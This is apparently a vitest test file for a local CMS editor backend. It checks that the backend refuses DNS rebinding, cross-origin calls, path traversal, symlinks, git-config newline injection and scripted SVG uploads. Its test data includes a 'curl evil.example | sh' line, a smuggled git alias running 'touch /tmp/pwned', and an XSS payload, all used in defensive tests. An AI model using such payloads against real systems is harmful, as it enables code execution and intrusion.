// The editor's local backend (npm run edit) answers only the editor: the attacks a web page in another tab could make
// (DNS rebinding, a cross-origin post, writing code that runs on the next start, reading leads or package.json) are
// refused and change nothing, while a save as the editor sends it still lands in the page file. Drafts are branches of
// the editor's clone; a publish is checked, is one commit in the project, and a save over a newer version is refused.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { request, type Server, type ServerResponse } from 'node:http';
import { EventEmitter } from 'node:events';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import cmsConfig from '../../src/editor/cms-config.json' with { type: 'json' };
import { removedPageFiles } from '../../src/content/address-changes';
import { routesIn } from '../../src/content/addresses';
import { PHOTO_EXTENSIONS, type PictureFiles } from '../../src/content/pictures';
import { dateTimeIn } from '../../src/editor/dates';
import { inTurn, startEditorBackend } from '../../src/server/editor-backend';
import { oneAtATime, openEditorRepo } from '../../src/server/editor-repo';

const EDITOR = 'http://127.0.0.1:5173';
const FILES: Record<string, string> = {
  'pages.yaml': 'routes: []\n',
  'site/pages/faq.yaml': 'blocks: []\n',
  'site/images/flange-before.jpg': 'JPEG bytes',
  'vite.config.ts': 'export default {};\n',
  'package.json': '{"name":"site","scripts":{"start":"node start.js"}}\n',
  '.data/outbox/lead.eml': 'From: a lead <lead@example.com>\n',
  'scripts/start.ts': 'console.log("start");\n',
};

let root: string;
let server: Server;
let port: number;
const refusals: string[] = [];

beforeAll(async () => {
  root = mkdtempSync(path.join(tmpdir(), 'editor-backend-'));
  for (const [file, text] of Object.entries(FILES)) {
    mkdirSync(path.dirname(path.join(root, file)), { recursive: true });
    writeFileSync(path.join(root, file), text);
  }
  const inRoot = (...args: string[]) => execFileSync('git', args, { cwd: root });
  inRoot('init', '-q', '-b', 'trunk');
  inRoot('add', '-A');
  inRoot('-c', 'user.name=Developer', '-c', 'user.email=dev@example.com', 'commit', '-q', '-m', 'The site');
  const repo = await openEditorRepo({ project: root, repo: path.join(root, '.build/editor-repo'), isContentFile: (file) => file.endsWith('.yaml') });
  server = await startEditorBackend<PictureFiles>({
    repo,
    port: 0,
    editorOrigins: [EDITOR],
    config: cmsConfig.config,
    photoNames: PHOTO_EXTENSIONS,
    // The whole site's check stood in for: BROKEN in a changed file, or a picture a page names that goes.
    siteCheck: (texts, changes, pictures) => {
      const after = new Map([...texts, ...changes]);
      const gone = pictures ? [...pictures.before.keys()].filter((src) => !pictures.after.has(src)) : [];
      const shown = gone.flatMap((src) => [...after].filter(([, text]) => text.includes(src)).map(([file]) => `${file}:3:12  error in Block 1 (Hero banner), Picture: there is no picture ${src}`));
      const broken = [...changes.values()].some((text) => text.includes('BROKEN')) ? ['site/pages/faq.yaml:2:5  error  BROKEN'] : [];
      return { removed: removedPageFiles(texts.get('pages.yaml'), changes.get('pages.yaml')), report: [...broken, ...shown].join('\n') || undefined };
    },
    // Every file of the media folder a picture, measured by nothing.
    picturesAt: async (rev, replaced = new Map()) => {
      const files = (await repo.filesAt(rev, ['site/images'])).map((file) => file.path).filter((file) => !replaced.has(file));
      const put = [...replaced].flatMap(([file, bytes]) => (bytes ? [file] : []));
      return new Map([...files, ...put].map((file) => [`/images/${file.slice('site/images/'.length)}`, { width: 1600, height: 1200 }]));
    },
    publishedAddress: async (rev, file) => routesIn(await repo.textAt(rev, 'pages.yaml')).find((entry) => `site/pages/${entry.page}` === file)?.path,
    previewUrl: (collection, slug, isDraft) => (isDraft ? `${EDITOR}/_preview/${collection}/${slug}` : `${EDITOR}/`),
    // The editor's own words for a moment, in a zone with no summer time so the test reads the same all year.
    dateInWords: (date) => dateTimeIn('UTC', date),
    log: (line) => refusals.push(line),
  });
  port = (server.address() as AddressInfo).port;
});

afterAll(() => {
  server?.close();
  rmSync(root, { recursive: true, force: true });
});

const read = (file: string) => readFileSync(path.join(root, file), 'utf8');

/** A call of the API with the headers a browser would send; Host is set by hand, as a rebinding page's browser sends its own. */
function call(body: unknown, { host = `127.0.0.1:${port}`, origin = EDITOR as string | undefined, method = 'POST', raw = undefined as string | undefined } = {}) {
  return new Promise<{ status: number; text: string; headers: Record<string, unknown> }>((resolve, reject) => {
    const text = raw ?? JSON.stringify(body);
    const headers: Record<string, string> = { Host: host, 'Content-Type': 'application/json', ...(origin ? { Origin: origin } : {}) };
    const sent = request({ host: '127.0.0.1', port, path: '/api/v1', method, headers }, (res) => {
      let answer = '';
      res.setEncoding('utf8').on('data', (chunk: string) => (answer += chunk));
      res.on('end', () => resolve({ status: res.statusCode!, text: answer, headers: res.headers }));
    });
    sent.on('error', reject);
    sent.end(method === 'POST' ? text : undefined);
  });
}

/** persistEntry as Decap's proxy backend sends it for one data file: a draft, in the editorial workflow. */
const save = (file: string, raw: string, newPath?: string) => ({
  action: 'persistEntry',
  params: { branch: 'main', dataFiles: [{ slug: 'faq', path: file, raw, ...(newPath ? { newPath } : {}) }], assets: [], options: { commitMessage: 'Edit', useWorkflow: true, status: 'draft', collectionName: 'pages' } },
});
/** Marks a draft Ready, as the Workflow does before a publish. */
const markReady = (collection: string, slug: string) => call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection, slug, newStatus: 'pending_publish' } });
/** Marks the draft Ready, then publishes it. */
async function publish(collection: string, slug: string, editor?: string) {
  expect((await markReady(collection, slug)).status).toBe(200);
  return call({ action: 'publishUnpublishedEntry', ...(editor ? { editor } : {}), params: { branch: 'main', collection, slug } });
}
const publishFaq = () => publish('pages', 'faq');
const getEntry = (file: string) => ({ action: 'getEntry', params: { branch: 'main', path: file } });

describe("the editor's backend", () => {
  it('saves a page file as the editor sends it, publishes it, and reads the content back', async () => {
    const saved = await call(save('site/pages/faq.yaml', 'blocks:\n  - type: faq\n'));
    expect(saved.status).toBe(200);
    expect((await publishFaq()).status).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe('blocks:\n  - type: faq\n');
    expect(JSON.parse((await call(getEntry('pages.yaml'))).text).data).toBe(FILES['pages.yaml']);
    const pages = JSON.parse((await call({ action: 'entriesByFolder', params: { branch: 'main', folder: 'site/pages', extension: 'yaml', depth: 3 } })).text) as Array<{ file: { path: string } }>;
    expect(pages.map((entry) => entry.file.path)).toEqual(['site/pages/faq.yaml']);
    expect(JSON.parse((await call({ action: 'getMedia', params: { branch: 'main', mediaFolder: 'site/images' } })).text)).toHaveLength(1);
  });

  it("refuses a save whose file is not its entry's: a page's content never lands in site/navigation.yaml", async () => {
    const before = read('site/pages/faq.yaml');
    const intoNavigation = { action: 'persistEntry', params: { branch: 'main', dataFiles: [{ slug: 'navigation', path: 'pages.yaml', raw: 'blocks: []\n' }], assets: [], options: { commitMessage: 'Edit', useWorkflow: false, status: 'draft', collectionName: 'pages' } } };
    const answer = await call(intoNavigation);
    expect(answer.status).toBe(403);
    expect(read('pages.yaml')).toBe(FILES['pages.yaml']);
    // Another page's file under the same slug is refused as well.
    expect((await call({ ...save('site/pages/faq.yaml', 'blocks: []\n'), params: { ...save('site/pages/faq.yaml', 'x').params, dataFiles: [{ slug: 'enhanced-faq', path: 'site/pages/faq.yaml', raw: 'x' }] } })).status).toBe(403);
    expect(read('site/pages/faq.yaml')).toBe(before);
  });

  it('answers the preflight of the editor page, and no other', async () => {
    const editor = await call(undefined, { method: 'OPTIONS' });
    expect(editor.status).toBe(204);
    expect(editor.headers['access-control-allow-origin']).toBe(EDITOR);
    expect((await call(undefined, { method: 'OPTIONS', origin: 'http://evil.example' })).status).toBe(403);
  });

  it('refuses a DNS-rebinding page: a Host other than its own 127.0.0.1 or localhost port', async () => {
    for (const host of ['evil.example', `evil.example:${port}`, '127.0.0.1', `127.0.0.1:${port + 1}`, `localhost:${port}.evil.example`]) {
      const answer = await call(save('site/pages/faq.yaml', 'rebound'), { host, origin: undefined });
      expect(answer.status, host).toBe(403);
      expect(answer.text).toMatch(/^\{"error":"Refused: Host/);
    }
    expect((await call(getEntry('pages.yaml'), { host: `localhost:${port}` })).status).toBe(200);
    expect(read('site/pages/faq.yaml')).not.toContain('rebound');
  });

  it('refuses a page of another origin, even with the right Host', async () => {
    for (const origin of ['http://evil.example', 'null', `http://127.0.0.1:${port}`, 'http://localhost:5174']) {
      expect((await call(save('site/pages/faq.yaml', 'cross-origin'), { origin })).status, origin).toBe(403);
    }
    expect(read('site/pages/faq.yaml')).not.toContain('cross-origin');
  });

  it('refuses, with the editor’s own headers, any write outside the content files and leaves the file as it was', async () => {
    const code = 'import { execSync } from "node:child_process"; execSync("curl evil.example | sh");\n';
    for (const body of [
      save('vite.config.ts', code),
      save('site/pages/../../vite.config.ts', code),
      save('site/pages/faq.yaml', code, 'vite.config.ts'),
      save('scripts/start.ts', code),
      save('site/pages/evil.ts', code),
      { action: 'persistMedia', params: { branch: 'main', asset: { path: 'vite.config.ts', content: Buffer.from(code).toString('base64'), encoding: 'base64' }, options: { commitMessage: 'x' } } },
      { ...save('site/pages/faq.yaml', 'ok'), params: { ...save('site/pages/faq.yaml', 'ok').params, assets: [{ path: 'package.json', content: 'e30=', encoding: 'base64' }] } },
      { action: 'deleteFile', params: { branch: 'main', path: 'package.json', options: { commitMessage: 'x' } } },
    ]) {
      const answer = await call(body);
      expect(answer.status, JSON.stringify(body).slice(0, 120)).toBe(403);
    }
    expect(read('vite.config.ts')).toBe(FILES['vite.config.ts']);
    expect(read('scripts/start.ts')).toBe(FILES['scripts/start.ts']);
    expect(read('package.json')).toBe(FILES['package.json']);
    expect(read('site/pages/faq.yaml')).not.toContain('ok');
  });

  it('refuses, with the editor’s own headers, any read of a stored lead, package.json or the code', async () => {
    for (const body of [
      getEntry('package.json'),
      getEntry('.data/outbox/lead.eml'),
      getEntry('site/pages/../../package.json'),
      { action: 'entriesByFiles', params: { branch: 'main', files: [{ path: 'site/pages/faq.yaml' }, { path: 'package.json' }] } },
      { action: 'entriesByFolder', params: { branch: 'main', folder: '.data', extension: 'eml', depth: 3 } },
      { action: 'entriesByFolder', params: { branch: 'main', folder: 'site/pages', extension: 'ts', depth: 3 } },
      { action: 'getMedia', params: { branch: 'main', mediaFolder: '.data/outbox' } },
      { action: 'getMediaFile', params: { branch: 'main', path: 'site/images/../../package.json' } },
      { action: 'unpublishedEntry', params: { branch: 'main', collection: 'scripts', slug: 'start' } },
      { action: 'unpublishedEntryDataFile', params: { branch: 'main', collection: 'pages', slug: 'faq', path: 'package.json', id: 'x' } },
      { action: 'constructor' },
      [],
    ]) {
      const answer = await call(body);
      expect(answer.status, JSON.stringify(body)).toBe(403);
      expect(answer.text).not.toMatch(/lead@example\.com|node start\.js|scripts/);
    }
    expect(refusals.every((line) => !line.includes('\n'))).toBe(true);
  });

  it('answers a body that is not JSON with 400 and no stack trace', async () => {
    const answer = await call(undefined, { raw: '{"action":' });
    expect(answer.status).toBe(400);
    expect(answer.text).not.toMatch(/\n\s+at |node_modules/);
  });

  const commits = () => execFileSync('git', ['log', '--format=%an|%s'], { cwd: root, encoding: 'utf8' }).trim().split('\n');
  const draft = (raw: string, opened?: string) => {
    const call = save('site/pages/faq.yaml', raw);
    return { ...call, editor: 'Alex', params: { ...call.params, ...(opened === undefined ? {} : { opened }), options: { ...call.params.options, useWorkflow: true } } };
  };

  it('keeps a save as a draft off the project, lists it, and publishes it as one commit by the publisher', async () => {
    const published = read('site/pages/faq.yaml');
    const before = commits().length;
    expect((await call(draft('blocks:\n  - type: hero\n', published))).status).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe(published);
    expect(JSON.parse((await call({ action: 'unpublishedEntries', params: { branch: 'main' } })).text)).toEqual(['pages/faq']);
    const preview = JSON.parse((await call({ action: 'getDeployPreview', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).text);
    expect(preview).toEqual({ url: `${EDITOR}/_preview/pages/faq`, status: 'SUCCESS' });
    expect((await call({ action: 'getDeployPreview', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).headers['access-control-allow-origin']).toBe(EDITOR);
    const publishing = await publish('pages', 'faq', 'Sam');
    expect(publishing.status, publishing.text).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe('blocks:\n  - type: hero\n');
    expect(commits()).toHaveLength(before + 1);
    expect(commits()[0]).toBe('Sam|Publish pages “faq” from the browser editor');
    expect(JSON.parse((await call({ action: 'unpublishedEntries', params: { branch: 'main' } })).text)).toEqual([]);
  });

  it('refuses to publish a draft that breaks the site, in the check’s words, and keeps the draft', async () => {
    const published = read('site/pages/faq.yaml');
    expect((await call(draft('blocks: BROKEN\n', published))).status).toBe(200);
    const publishing = await publishFaq();
    expect(publishing.status).toBe(422);
    expect(JSON.parse(publishing.text).error).toMatch(/^Not published: fix these first\.\n\nsite\/pages\/faq\.yaml:2:5/);
    expect(read('site/pages/faq.yaml')).toBe(published);
    expect(JSON.parse((await call({ action: 'unpublishedEntries', params: { branch: 'main' } })).text)).toEqual(['pages/faq']);
    expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
  });

  it('refuses a save over a version newer than the one opened, naming who changed it, and takes in a commit made in the project', async () => {
    const opened = read('site/pages/faq.yaml');
    writeFileSync(path.join(root, 'site/pages/faq.yaml'), 'blocks:\n  - type: faq\n');
    execFileSync('git', ['commit', '-q', '-am', 'Restore the FAQ'], { cwd: root, env: { ...process.env, GIT_AUTHOR_NAME: 'Robin', GIT_AUTHOR_EMAIL: '', GIT_AUTHOR_DATE: '2026-11-28T20:50:38Z', GIT_COMMITTER_NAME: 'Robin', GIT_COMMITTER_EMAIL: '' } });
    const refused = await call(draft('blocks: []\n', opened));
    expect(refused.status).toBe(409);
    const answer = JSON.parse(refused.text);
    // The moment in the editor's words (en-AU), not git's ISO date nor an American one.
    expect(answer.error).toMatch(/^Not saved: Robin changed this page on 28 Nov 2026, 8:50 pm, after you opened it/);
    expect(answer.changed).toMatchObject({ path: 'site/pages/faq.yaml', author: 'Robin', text: 'blocks:\n  - type: faq\n' });
    expect((await call(draft('blocks: []\n', answer.changed.text))).status).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe('blocks:\n  - type: faq\n');
  });

  it('publishes a Routes draft that removes a page with the page file deleted, in the same one commit', async () => {
    const routes = 'routes:\n  - path: /offer\n    page: offer.yaml\n  - path: /contact\n    page: contact.yaml\n';
    for (const [file, text] of [['pages.yaml', routes], ['site/pages/offer.yaml', 'blocks: []\n'], ['site/pages/contact.yaml', 'blocks: []\n']] as const) writeFileSync(path.join(root, file), text);
    execFileSync('git', ['add', 'pages.yaml', 'site/pages'], { cwd: root });
    execFileSync('git', ['-c', 'user.name=Developer', '-c', 'user.email=dev@example.com', 'commit', '-q', '-m', 'An offer page'], { cwd: root });
    const removing = 'routes:\n  - path: /contact\n    page: contact.yaml\n    redirectFrom: [/offer]\n';
    const saved = await call({ action: 'persistEntry', params: { branch: 'main', dataFiles: [{ slug: 'routes', path: 'pages.yaml', raw: removing }], assets: [], options: { commitMessage: 'Edit', useWorkflow: true, status: 'draft', collectionName: 'routes' } } });
    expect(saved.status, saved.text).toBe(200);
    // A draft deletes nothing: the page is there until the publish.
    expect(existsSync(path.join(root, 'site/pages/offer.yaml'))).toBe(true);
    const before = commits().length;
    const publishing = await publish('routes', 'routes');
    expect(publishing.status, publishing.text).toBe(200);
    expect(commits()).toHaveLength(before + 1);
    expect(read('pages.yaml')).toBe(removing);
    expect(existsSync(path.join(root, 'site/pages/offer.yaml'))).toBe(false);
    expect(execFileSync('git', ['show', '--name-status', '--format=', 'HEAD'], { cwd: root, encoding: 'utf8' }).trim().split('\n')).toEqual(['M\tpages.yaml', 'D\tsite/pages/offer.yaml']);
  });
});

describe('the backend against hostile calls (issue 49)', () => {
  const clone = () => path.join(root, '.build/editor-repo');
  const inClone = (...args: string[]) => execFileSync('git', args, { cwd: clone(), encoding: 'utf8' });
  const head = () => execFileSync('git', ['rev-parse', 'HEAD'], { cwd: root, encoding: 'utf8' }).trim();
  const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1]).toString('base64');
  const upload = (file: string, content: string) => ({ action: 'persistMedia', params: { branch: 'main', asset: { path: file, content, encoding: 'base64' }, options: { commitMessage: 'Upload' } } });
  /** A draft made in the clone by hand, as a racing or hostile save could leave one. */
  const handMadeDraft = (change: () => void) => {
    inClone('checkout', '-q', '-B', 'cms/pages/faq', 'main');
    change();
    inClone('-c', 'user.name=x', '-c', 'user.email=x', 'commit', '-q', '-m', 'hand-made');
    inClone('checkout', '-q', 'main');
  };

  it('refuses a save outside the workflow, and the project stays as it was', async () => {
    const before = head();
    const call_ = save('site/pages/faq.yaml', 'blocks: BROKEN\n');
    const answer = await call({ ...call_, params: { ...call_.params, options: { ...call_.params.options, useWorkflow: false } } });
    expect(answer.status).toBe(403);
    expect(JSON.parse(answer.text).error).toMatch(/a save is always a draft/);
    expect(head()).toBe(before);
  });

  it('refuses a status with a line break, or any but Decap’s three, and git’s config is unchanged', async () => {
    expect((await call(save('site/pages/faq.yaml', 'blocks: []\n'))).status).toBe(200);
    const config = () => readFileSync(path.join(clone(), '.git/config'), 'utf8');
    const before = config();
    for (const newStatus of ['pending_publish\n[alias]\n\tx = !touch /tmp/pwned', 'published', 'decap-cms/pending_publish']) {
      const answer = await call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection: 'pages', slug: 'faq', newStatus } });
      expect(answer.status, newStatus).toBe(403);
    }
    const prefixed = await call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection: 'pages', slug: 'faq', newStatus: 'pending_review', cmsLabelPrefix: 'x\n[core]\n' } });
    expect(prefixed.status).toBe(403);
    expect(config()).toBe(before);
    expect((await call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection: 'pages', slug: 'faq', newStatus: 'pending_review' } })).status).toBe(200);
    expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
  });

  it('refuses slugs in git’s revision syntax', async () => {
    for (const slug of ['faq~1', 'faq@{1}', 'faq^', 'faq.lock', '-faq', 'faq/..']) {
      expect((await call({ action: 'publishUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug } })).status, slug).toBe(403);
    }
  });

  it('refuses an SVG or HTML with a script, or a file named as a photo that is not one; takes a JPEG', async () => {
    const script = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(`/api/v1`)"><script>alert(1)</script></svg>').toString('base64');
    for (const [file, content] of [['site/images/x.svg', script], ['site/images/x.xhtml', script], ['site/images/x.jpg', script], ['site/images/x.html', script]] as const) {
      const answer = await call(upload(file, content));
      expect(answer.status, file).toBe(403);
      expect(JSON.parse(answer.text).error).toMatch(/a photo the site makes copies of/);
      expect(existsSync(path.join(root, file)), file).toBe(false);
    }
    expect((await call(upload('site/images/new-photo.jpg', JPEG))).status).toBe(200);
    expect(existsSync(path.join(root, 'site/images/new-photo.jpg'))).toBe(true);
  });

  it('refuses an upload under a .git folder, and the next save works', async () => {
    for (const file of ['site/images/x/.git/HEAD', 'site/images/.git/objects/ab/cd.jpg', 'site/images/x/.git/refs/heads/main.jpg', 'site/images/.hidden.jpg']) {
      expect((await call(upload(file, JPEG))).status, file).toBe(403);
    }
    expect(existsSync(path.join(clone(), 'site/images/x'))).toBe(false);
    expect((await call(save('site/pages/faq.yaml', 'blocks:\n  - type: cta\n'))).status).toBe(200);
    expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
  });

  it('refuses to delete a picture a page still shows, and deletes one none shows', async () => {
    writeFileSync(path.join(root, 'site/pages/faq.yaml'), 'blocks:\n  - type: hero\n    image: /images/flange-before.jpg\n');
    execFileSync('git', ['-c', 'user.name=Developer', '-c', 'user.email=d@example.com', 'commit', '-q', '-am', 'A photo on the FAQ'], { cwd: root });
    const before = head();
    for (const body of [
      { action: 'deleteFiles', params: { branch: 'main', paths: ['site/images/flange-before.jpg'], options: { commitMessage: 'x' } } },
      { action: 'deleteFile', params: { branch: 'main', path: 'site/images/flange-before.jpg', options: { commitMessage: 'x' } } },
    ]) {
      const answer = await call(body);
      expect(answer.status).toBe(409);
      expect(JSON.parse(answer.text).error).toMatch(/^Not deleted: the site still shows this picture\. .*\n\nsite\/pages\/faq\.yaml:3:12 {2}error in Block 1 \(Hero banner\), Picture: there is no picture \/images\/flange-before\.jpg/);
    }
    expect(head()).toBe(before);
    expect(existsSync(path.join(root, 'site/images/flange-before.jpg'))).toBe(true);
    expect((await call({ action: 'deleteFile', params: { branch: 'main', path: 'site/images/new-photo.jpg', options: { commitMessage: 'x' } } })).status).toBe(200);
    expect(existsSync(path.join(root, 'site/images/new-photo.jpg'))).toBe(false);
  });

  it('refuses to publish a draft that deletes a page file, with the site’s branch unchanged', async () => {
    handMadeDraft(() => inClone('rm', '-q', 'site/pages/faq.yaml'));
    const before = head();
    const publish = await publishFaq();
    expect(publish.status).toBe(403);
    expect(JSON.parse(publish.text).error).toMatch(/^Refused: this draft deletes site\/pages\/faq\.yaml/);
    expect(head()).toBe(before);
    expect(existsSync(path.join(root, 'site/pages/faq.yaml'))).toBe(true);
    expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
  });

  it('refuses to publish, or save over, a draft that turns a page file into a link to a file outside', async () => {
    const outside = path.join(root, '..', `outside-${path.basename(root)}.txt`);
    writeFileSync(outside, 'secret\n');
    try {
      handMadeDraft(() => {
        rmSync(path.join(clone(), 'site/pages/faq.yaml'));
        symlinkSync(outside, path.join(clone(), 'site/pages/faq.yaml'));
        inClone('add', 'site/pages/faq.yaml');
      });
      const before = head();
      const publish = await publishFaq();
      expect(publish.status).toBe(403);
      expect(JSON.parse(publish.text).error).toMatch(/turns site\/pages\/faq\.yaml into a link/);
      expect(head()).toBe(before);
      const saved = await call(save('site/pages/faq.yaml', 'blocks: []\n'));
      expect(saved.status).toBe(403);
      expect(JSON.parse(saved.text).error).toMatch(/site\/pages\/faq\.yaml is a link or a repository in git/);
      expect(readFileSync(outside, 'utf8')).toBe('secret\n');
      expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
    } finally {
      rmSync(outside, { force: true });
    }
  });

  it('keeps a message on one line, and a failed save leaves the clone as it was for the next', async () => {
    // Another git holding main: an upload writes and adds its file, then cannot commit it.
    const lock = path.join(clone(), '.git/refs/heads/main.lock');
    writeFileSync(lock, '');
    const failed = await call(upload('site/images/half-uploaded.jpg', JPEG));
    expect(failed.status).toBeGreaterThanOrEqual(400);
    expect(failed.text).not.toMatch(/\n\s+at /);
    rmSync(lock);
    // The next call finds main clean: no file of the failed save is left behind.
    expect((await call(getEntry('pages.yaml'))).status).toBe(200);
    expect(inClone('status', '--porcelain')).toBe('');
    const call_ = save('site/pages/faq.yaml', 'blocks:\n  - type: cta\n');
    const saved = await call({ ...call_, params: { ...call_.params, options: { ...call_.params.options, commitMessage: 'Edit\n\nSigned-off-by: Mallory <m@evil.example>' } } });
    expect(saved.status, saved.text).toBe(200);
    expect(inClone('log', '-1', '--format=%B', 'cms/pages/faq').trim()).toBe('Edit Signed-off-by: Mallory <m@evil.example>');
    expect((await call({ action: 'deleteUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } })).status).toBe(200);
  });
});

describe('what reaches the site’s branch (issue 55)', () => {
  const clone = () => path.join(root, '.build/editor-repo');
  const head = () => execFileSync('git', ['rev-parse', 'HEAD'], { cwd: root, encoding: 'utf8' }).trim();
  const JPEG = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1]).toString('base64');
  /** A commit in the project by someone else, at a moment of their own. */
  const commitInProject = (file: string, text: string, author: string, date: string) => {
    writeFileSync(path.join(root, file), text);
    execFileSync('git', ['commit', '-q', '-m', `${author}'s change`, '--', file], { cwd: root, env: { ...process.env, GIT_AUTHOR_NAME: author, GIT_AUTHOR_EMAIL: '', GIT_AUTHOR_DATE: date, GIT_COMMITTER_NAME: author, GIT_COMMITTER_EMAIL: '' } });
  };
  const saveFaq = (raw: string, opened: string) => {
    const body = save('site/pages/faq.yaml', raw);
    return call({ ...body, params: { ...body.params, opened } });
  };

  it('publishes only a Ready draft: a Draft or one In review is refused in the Workflow’s words, and the site stays as it was', async () => {
    const published = read('site/pages/faq.yaml');
    expect((await saveFaq('blocks:\n  - type: cta\n', published)).status).toBe(200);
    const before = head();
    const asDraft = await call({ action: 'publishUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } });
    expect(asDraft.status).toBe(409);
    expect(JSON.parse(asDraft.text).error).toBe('Not published: this draft is still a Draft, and only a Ready draft is published. Set its Status to Ready once it has been read, then publish.');
    expect((await call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection: 'pages', slug: 'faq', newStatus: 'pending_review' } })).status).toBe(200);
    const inReview = await call({ action: 'publishUnpublishedEntry', params: { branch: 'main', collection: 'pages', slug: 'faq' } });
    expect(inReview.status).toBe(409);
    expect(JSON.parse(inReview.text).error).toMatch(/^Not published: this draft is In review, and only a Ready draft is published/);
    expect(head()).toBe(before);
    expect(read('site/pages/faq.yaml')).toBe(published);
    expect((await publishFaq()).status).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe('blocks:\n  - type: cta\n');
  });

  it('changes the status of a draft that exists only: no Ready entry is left in git for a draft that is not there', async () => {
    const config = () => readFileSync(path.join(clone(), '.git/config'), 'utf8');
    const before = config();
    for (const slug of ['phantom', 'faq']) {
      const answer = await call({ action: 'updateUnpublishedEntryStatus', params: { branch: 'main', collection: 'pages', slug, newStatus: 'pending_publish' } });
      expect(answer.status, slug).toBe(404);
      expect(JSON.parse(answer.text).error).toMatch(/^this draft is no longer there/);
    }
    expect(config()).toBe(before);
    expect(config()).not.toContain('cms/pages/phantom');
  });

  it('refuses an upload over a published picture, which would change every page showing it outside any draft; takes one under a new name', async () => {
    const photo = () => readFileSync(path.join(root, 'site/images/flange-before.jpg'));
    const before = { head: head(), photo: photo() };
    const answer = await call({ action: 'persistMedia', params: { branch: 'main', asset: { path: 'site/images/flange-before.jpg', content: JPEG, encoding: 'base64' }, options: { commitMessage: 'Upload' } } });
    expect(answer.status).toBe(409);
    expect(JSON.parse(answer.text).error).toMatch(/^Not uploaded: the site already has a picture named flange-before\.jpg, .*Give the new one another name/);
    expect(head()).toBe(before.head);
    expect(photo().equals(before.photo)).toBe(true);
    expect((await call({ action: 'persistMedia', params: { branch: 'main', asset: { path: 'site/images/flange-before-2.jpg', content: JPEG, encoding: 'base64' }, options: { commitMessage: 'Upload' } } })).status).toBe(200);
  });

  it('refuses a draft begun before a newer publish of its page, at save and at publish, with who and when; applied again on the newer version it keeps both', async () => {
    const lines = (one: string, three: string) => `blocks:\n  - type: hero\n    title: ${one}\n  - type: text\n    title: Two\n  - type: cta\n    title: ${three}\n`;
    commitInProject('site/pages/faq.yaml', lines('One', 'Three'), 'Developer', '2026-11-27T10:00:00Z');
    expect((await saveFaq(lines('One', 'Drafted'), lines('One', 'Three'))).status).toBe(200);
    // Published meanwhile: another line of the same page, which git alone would merge with the draft's without a word.
    commitInProject('site/pages/faq.yaml', lines('Newer', 'Three'), 'Robin', '2026-11-28T20:50:38Z');
    const before = head();
    const published = await publishFaq();
    expect(published.status).toBe(409);
    expect(JSON.parse(published.text).error).toMatch(/^Not published: Robin changed this page on 28 Nov 2026, 8:50 pm, after this draft was started, and publishing the draft would undo their change\./);
    expect(head()).toBe(before);
    expect(read('site/pages/faq.yaml')).toBe(lines('Newer', 'Three'));
    // The draft's form, changed again and saved: refused with the newer version and where the draft began, to apply the changes again.
    const refused = await saveFaq(lines('One', 'Drafted again'), lines('One', 'Drafted'));
    expect(refused.status).toBe(409);
    const answer = JSON.parse(refused.text);
    expect(answer.error).toMatch(/^Not saved: Robin changed this page on 28 Nov 2026, 8:50 pm, after you opened it/);
    expect(answer.changed).toMatchObject({ path: 'site/pages/faq.yaml', author: 'Robin', text: lines('Newer', 'Three'), base: lines('One', 'Three') });
    expect((await saveFaq(lines('Newer', 'Drafted again'), answer.changed.text)).status).toBe(200);
    expect((await publishFaq()).status).toBe(200);
    expect(read('site/pages/faq.yaml')).toBe(lines('Newer', 'Drafted again'));
  });
});

describe("the backend's calls, one at a time", () => {
  /** An answer as the server holds it: ended by the call, closed when written or when the page leaves. */
  const answerOf = () => Object.assign(new EventEmitter(), { end() {} }) as unknown as ServerResponse;
  const tick = () => new Promise((resolve) => setTimeout(resolve, 5));

  it('keeps the turn of a call whose page left while it ran until its answer is written, and skips one that left before its turn', async () => {
    const exclusive = oneAtATime();
    const ran: string[] = [];
    const saving = answerOf();
    const poll = answerOf();
    const next = answerOf();
    void inTurn(exclusive, saving, async () => void ran.push('save begins'));
    void inTurn(exclusive, poll, async () => void ran.push('poll'));
    void inTurn(exclusive, next, async () => void ran.push('next call'));
    await tick();
    // Both pages leave: the save is still being committed in the clone, the poll has not had its turn.
    saving.emit('close');
    poll.emit('close');
    await tick();
    expect(ran).toEqual(['save begins']);
    saving.end();
    await tick();
    expect(ran).toEqual(['save begins', 'next call']);
  });
});
